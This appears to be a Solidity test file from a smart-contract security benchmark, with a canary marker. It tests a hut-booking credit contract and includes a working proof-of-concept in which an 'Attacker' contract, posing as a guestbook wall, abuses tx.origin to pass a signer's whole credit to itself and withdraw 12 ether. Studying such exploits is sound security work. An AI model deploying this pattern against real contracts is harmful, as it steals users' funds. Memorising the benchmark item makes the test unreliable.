// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./RidgewayHutPass.sol";

// assay-canary-7f0bc1d2-f05e-4380-835b-803ad676c0c5

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

/// A travel agency that guests name.
contract Agency {
    RidgewayHutPass internal pass;

    constructor(RidgewayHutPass pass_) public {
        pass = pass_;
    }

    function book(address guest, uint256 hut, uint256 night, uint256 nights) external {
        pass.book(guest, hut, night, nights);
    }
}

/// A wall of summit photographs. Guests sign it, and it helps itself meanwhile.
contract Attacker {
    RidgewayHutPass internal pass;
    mapping(address => string) public lines;

    constructor(RidgewayHutPass pass_) public {
        pass = pass_;
    }

    receive() external payable {}

    function sign(string calldata line) external {
        lines[tx.origin] = line;
        pass.topUp{value: 0.01 ether}();
        pass.passOn(tx.origin, address(this), pass.credit(tx.origin));
        pass.takeOut(pass.credit(address(this)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    RidgewayHutPass internal pass;
    Agency internal agency;
    Attacker internal wall;
    address payable internal gero; // the guest: an account that signs transactions itself
    address internal constant HILDE = address(0x411DE);
    address payable internal constant KEEPER = address(0xCEE9E4);

    function setUp() public {
        vm.warp(1700000000);
        gero = tx.origin;
        pass = new RidgewayHutPass();
        pass.addHut(KEEPER, 1 ether, 2);
        agency = new Agency(pass);
        wall = new Attacker(pass);
        vm.deal(address(wall), 0.01 ether);
        vm.deal(gero, 12 ether);
        vm.deal(HILDE, 5 ether);
        vm.prank(gero);
        pass.topUp{value: 12 ether}();
        vm.prank(HILDE);
        pass.topUp{value: 5 ether}();
    }

    function test_Regular() public {
        uint256 night = pass.nextNight();
        vm.prank(gero);
        pass.book(gero, 0, night, 3);
        require(pass.credit(gero) == 9 ether && pass.bedsTaken(0, night + 2) == 1, "booked");

        // through an agency, for who has named it
        (bool ok, ) = address(agency).call(abi.encodeWithSelector(agency.book.selector, HILDE, 0, night, 1));
        require(!ok, "not named");
        vm.prank(HILDE);
        pass.setAgency(address(agency), true);
        agency.book(HILDE, 0, night, 1);
        require(pass.credit(HILDE) == 4 ether, "booked for her");
        vm.prank(gero);
        (ok, ) = address(pass).call(abi.encodeWithSelector(pass.book.selector, gero, 0, night, 1));
        require(!ok, "two beds only");
        (ok, ) = address(pass).call(abi.encodeWithSelector(pass.passOn.selector, HILDE, gero, 1 ether));
        require(!ok, "not theirs");

        vm.prank(gero);
        pass.passOn(gero, HILDE, 2 ether);
        uint256 before = gero.balance;
        vm.prank(gero);
        pass.takeOut(7 ether);
        require(gero.balance - before == 7 ether && pass.credit(HILDE) == 6 ether, "passed on and taken out");

        pass.payKeeper(0);
        require(KEEPER.balance == 4 ether, "keeper paid");
        pass.setRate(0, 2 ether);
        require(address(pass).balance == pass.credit(HILDE) + pass.credit(gero), "books");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Huts are the association's, with a keeper and beds.
    function test_RefusesHuts() public {
        refuses(HILDE, "HutPass: association only");
        pass.addHut(payable(HILDE), 1, 1);
        refuses(HILDE, "HutPass: association only");
        pass.setRate(0, 1);
        vm.expectRevert("HutPass: incomplete");
        pass.addHut(payable(address(0)), 1, 1);
        vm.expectRevert("HutPass: incomplete");
        pass.addHut(KEEPER, 1, 0);
    }

    /// Nights on sale, stays of some length, credit that is there.
    function test_RefusesNights() public {
        vm.prank(HILDE);
        pass.setAgency(address(agency), true);
        uint256 night = pass.nextNight();
        vm.expectRevert("HutPass: not on sale");
        agency.book(HILDE, 0, night - 1, 1);
        vm.expectRevert("HutPass: not on sale");
        agency.book(HILDE, 0, night + 365, 1);
        vm.expectRevert("HutPass: length of stay");
        agency.book(HILDE, 0, night, 0);
        vm.expectRevert("HutPass: length of stay");
        agency.book(HILDE, 0, night, 15);
        vm.deal(HILDE, 1 ether);
        refuses(HILDE, "HutPass: too little");
        pass.topUp{value: 0.009 ether}();
        vm.prank(gero);
        vm.expectRevert("HutPass: not a guest");
        pass.passOn(gero, address(0xBEE), 1);
        vm.prank(address(agency));
        pass.passOn(HILDE, gero, 1 ether);
        require(pass.credit(HILDE) == 4 ether, "passed on by her agency");
        refuses(HILDE, "HutPass: credit too low");
        pass.takeOut(5 ether);
        vm.deal(address(agency), 1 ether);
        vm.prank(address(agency));
        pass.topUp{value: 1 ether}();
        refuses(address(agency), "HutPass: not accepted");
        pass.takeOut(1 ether);
    }

    // gero, who starts this transaction, signs the wall.
    function exploit() public {
        wall.sign("Fog all day.");
    }

    function test_Exploit() public {
        uint256 before = address(wall).balance;
        exploit();
        require(address(wall).balance - before == 12 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pass);
    }

    function attacker() public view returns (address) {
        return address(wall);
    }
}
